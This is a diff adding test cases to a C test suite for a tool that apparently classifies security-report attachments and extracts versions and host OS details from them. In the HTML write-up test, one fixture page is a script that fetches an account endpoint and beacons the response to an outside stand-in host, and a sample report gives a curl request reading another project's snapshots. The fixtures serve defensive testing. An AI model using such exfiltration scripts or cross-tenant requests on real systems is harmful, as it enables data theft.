@@ -76,6 +76,16 @@ static const struct {
 	{ "Name          Version  Rev  Tracking       Publisher   Notes\n"
 	  "microsandbox  0.8.3    214  latest/stable  superrad**  classic\n", "0.8.3", "msb" },
 	{ "Getest op versie 0.6.11 met een gedeelde map.", "0.6.11", "prose" },
+	/* 1732: an install script's download of a release asset (an `sh -x`
+	 * trace) names the release; the same path on another host (a mirror,
+	 * a fork) is an address and names none; Luxembourgish "Versioun" */
+	{ "+ curl -fL -o /tmp/i/msb.tgz https://github.com/superradcompany/microsandbox/releases/download/v0.10.4/msb-darwin-arm64.tar.gz\n",
+	  "0.10.4", "tag" },
+	{ "Fetched https://github.com/superradcompany/microsandbox/releases/download/0.9.8/microsandbox-x86_64.zip by hand.\n",
+	  "0.9.8", "tag" },
+	{ "+ wget -q https://cdn.mirror-of-things.example/v0.10.4/msb-linux-x86_64.tar.gz\n", NULL, NULL },
+	{ "+ curl -fL https://github.com/someone/msb-fork/releases/download/v0.10.4/msb-linux-x86_64.tar.gz\n", NULL, NULL },
+	{ "Mir hunn et mat der Versioun 0.10.6 getest.", "0.10.6", "prose" },
 	/* round 44: a date written with dots is no version, the real one
 	 * further on still is */
 	{ "Exact version of msb and the output I will send tomorrow (26.11.2026),\n", NULL, NULL },
@@ -1011,6 +1021,13 @@ static const struct {
 	/* a host named without any field gives "os" alone; a field wins;
 	 * a negative test or a vendor's fleet names no host */
 	{ "It's my MacBook, I installed microsandbox last week with brew.", "macos", NULL, NULL, NULL, NULL },
+	/* 1727: Maltese joins the article to the noun ("il-MacBook"); a
+	 * runner fleet or a MAC address is no host */
+	{ "Ippruvajt fuq il-MacBook Air tal-uffiċċju, u ġara l-istess.", "macos", NULL, NULL, NULL, NULL },
+	{ "Dan ġara fuq l-iMac tiegħi d-dar.", "macos", NULL, NULL, NULL, NULL },
+	{ "Ħdimt fuq il-Mac tiegħi.", "macos", NULL, NULL, NULL, NULL },
+	{ "Il-pipeline jaħdem fuq il-Mac mini runners tagħna.", NULL, NULL, NULL, NULL, NULL },
+	{ "Il-Mac address tal-gateway jinbidel.", NULL, NULL, NULL, NULL, NULL },
 	{ "The script opened Notepad on my Windows laptop.", "windows", NULL, NULL, NULL, NULL },
 	{ "msb 0.8.4, I'm on macOS, no idea which version.", "macos", NULL, NULL, NULL, NULL },
 	{ "I tried it on my MacBook too, but the host is Ubuntu 24.04.", "linux", "Ubuntu 24.04", NULL, NULL, NULL },
@@ -5255,6 +5272,12 @@ static const struct {
 	{ { "ws-hijack-poc.html", "text/html", "<html><body><script>new WebSocket('wss://x')</script></body></html>\n" }, "poc" },
 	{ { "clickjack_exploit.htm", "text/html", "<iframe src=\"https://x\"></iframe>\n" }, "poc" },
 	{ { "scan-report.html", "text/html", "<html><body><h1>Findings</h1></body></html>\n" }, "other" },
+	/* 1735: a run's output saved as out.txt is a log; a word ending in
+	 * "out" is not */
+	{ { "out.txt", "text/plain", "done\n" }, "log" },
+	{ { "poc_out2.txt", "text/plain", "done\n" }, "log" },
+	{ { "checkout.txt", "text/plain", "Some thoughts about the design.\nNothing more.\n" }, "other" },
+	{ { "layout.txt", "text/plain", "Some thoughts about the design.\nNothing more.\n" }, "other" },
 	/* a fuzzer's reproduction in its own format (1490): a syzkaller
 	 * program, a crash input named as the reproducer; what the fuzzer
 	 * wrote is a log, an unnamed binary stays other */
@@ -5558,6 +5581,91 @@ test_archive_roles(void)
 		StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
 		g_assert_nonnull(att->members);
 		g_assert_cmpstr(st_role_name(att->role), ==, want[i]);
+	}
+}
+
+/* A bundle of a script and the output of its run (1735: README, run.sh,
+ * out.txt) shows logs: a member named as a log or a screenshot; one of
+ * scripts and notes, or a member whose name only ends in "out", none. */
+static void
+test_archive_logs(void)
+{
+	g_autoptr(StRules) rules = tu_repo_rules();
+	static const char *const bundle[] = { "b/README.md", "b/go.sh", "b/out.txt", NULL };
+	static const char *const run_log[] = { "case/trigger.py", "case/first-run.log", NULL };
+	static const char *const shot[] = { "x/poc.js", "x/terminal.png", NULL };
+	static const char *const notes[] = { "r/NOTES.md", "r/exploit.sh", "r/checkout.txt", NULL };
+	static const char *const code[] = { "s/main.rs", "s/layout.txt", "s/Cargo.toml", NULL };
+	static const char *const *const sets[] = { bundle, run_log, shot, notes, code };
+	static const gboolean want[] = { TRUE, TRUE, TRUE, FALSE, FALSE };
+
+	for (gsize i = 0; i < G_N_ELEMENTS(sets); i++) {
+		g_autoptr(GBytes) tgz = make_targz(sets[i]);
+		gsize len;
+		const char *data = g_bytes_get_data(tgz, &len);
+		Att atts[2] = { { "case.tar.gz", "application/x-compressed-tar", data, len },
+				{ NULL, NULL, NULL, 0 } };
+		g_autoptr(StAnalysis) a = analyse(rules, NULL, "All in the tarball.", atts);
+		StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
+		g_assert_nonnull(att->members);
+		if (a->check[ST_CHECK_LOGS] != want[i])
+			FAIL("archive-logs case %zu: logs %d", i, a->check[ST_CHECK_LOGS]);
+		g_assert_true(a->check[ST_CHECK_POC]);
+	}
+}
+
+/* A write-up exported as a web page (1734: a pentest firm's report tool)
+ * is read as it renders, like a .md write-up: its curl steps are the PoC,
+ * the responses under them the logs.  A page of prose with no steps shows
+ * neither, and the attacker's page named as the exploit stays the PoC. */
+#define HTML_HEAD "<!DOCTYPE html>\n<html><head><style>p { margin: 0 }</style></head><body>\n"
+static void
+test_html_writeup(void)
+{
+	g_autoptr(StRules) rules = tu_repo_rules();
+	static const char report[] = HTML_HEAD
+		"<h1>R-7 &ndash; Snapshot listing ignores the project</h1>\n"
+		"<h2>Summary</h2>\n<p>The snapshot listing endpoint returns the snapshots of every project in the region.</p>\n"
+		"<p>It only checks that the token is valid and never compares the project of the snapshot.</p>\n"
+		"<h2>Impact</h2>\n<p>Any customer can read the names and sizes of snapshots that belong to other customers.</p>\n"
+		"<p>Snapshot names often carry customer and branch names, which we consider confidential.</p>\n"
+		"<h2>Steps to reproduce</h2>\n<ol><li>With a token of project B, list the snapshots of project A:\n"
+		"<pre>curl -s -i https://api.cloud.example/v1/projects/p-A/snapshots \\\n"
+		"  -H &quot;Authorization: Bearer tok_B_0000&quot;</pre>\nResponse:\n"
+		"<pre>HTTP/1.1 200 OK\ncontent-type: application/json\n\n[{&quot;id&quot;:&quot;s-91&quot;}]</pre></li></ol>\n"
+		"<p>We stopped after this request and did not open any of the snapshots themselves.</p>\n"
+		"<p>Please tell us when a fix is deployed so that we can verify it for our client.</p>\n"
+		"</body></html>\n";
+	static const char newsletter[] = HTML_HEAD
+		"<h1>Autumn update from our security team</h1>\n"
+		"<p>This quarter we welcomed three new consultants to the team in the northern office.</p>\n"
+		"<p>Our training calendar for the next months is now open for registrations from customers.</p>\n"
+		"<p>We also moved our reporting portal to a new address, and the old one redirects there.</p>\n"
+		"<p>As always, feel free to reach out to your account manager with any questions at all.</p>\n"
+		"<p>The next webinar covers cloud tenancy models and how they are usually tested by us.</p>\n"
+		"<p>Thank you for working with us this year, and we look forward to the next one together.</p>\n"
+		"</body></html>\n";
+	static const char page[] = "<html><body><script>fetch('https://api.cloud.example/v1/me')"
+		".then(r => r.text()).then(t => navigator.sendBeacon('https://x.example', t))</script></body></html>\n";
+	static const struct {
+		Att att;
+		const char *role;
+		gboolean poc, logs;
+	} cases[] = {
+		{ { "R-7_snapshot-listing.html", "text/html", report }, "other", TRUE, TRUE },
+		{ { "export.htm", "application/octet-stream", report }, "other", TRUE, TRUE },
+		{ { "autumn-update.html", "text/html", newsletter }, "other", FALSE, FALSE },
+		{ { "exploit.html", "text/html", page }, "poc", TRUE, FALSE },
+	};
+
+	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
+		Att atts[2] = { cases[i].att, { NULL, NULL, NULL, 0 } };
+		g_autoptr(StAnalysis) a = analyse(rules, NULL, "Our finding is attached, regards.", atts);
+		StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
+		if (g_strcmp0(st_role_name(att->role), cases[i].role) != 0 ||
+		    a->check[ST_CHECK_POC] != cases[i].poc || a->check[ST_CHECK_LOGS] != cases[i].logs)
+			FAIL("html write-up case %zu: role %s poc %d logs %d", i, st_role_name(att->role),
+			     a->check[ST_CHECK_POC], a->check[ST_CHECK_LOGS]);
 	}
 }
 
@@ -6963,6 +7071,8 @@ main(int argc, char **argv)
 	g_test_add_func("/extract/saved-output", test_saved_output);
 	g_test_add_func("/extract/count-lines", test_count_lines);
 	g_test_add_func("/extract/archive-roles", test_archive_roles);
+	g_test_add_func("/extract/archive-logs", test_archive_logs);
+	g_test_add_func("/extract/html-writeup", test_html_writeup);
 	g_test_add_func("/extract/archive-notes", test_archive_notes);
 	g_test_add_func("/extract/roles-not-working", test_roles_not_working);
 	g_test_add_func("/extract/whole", test_extract_whole);
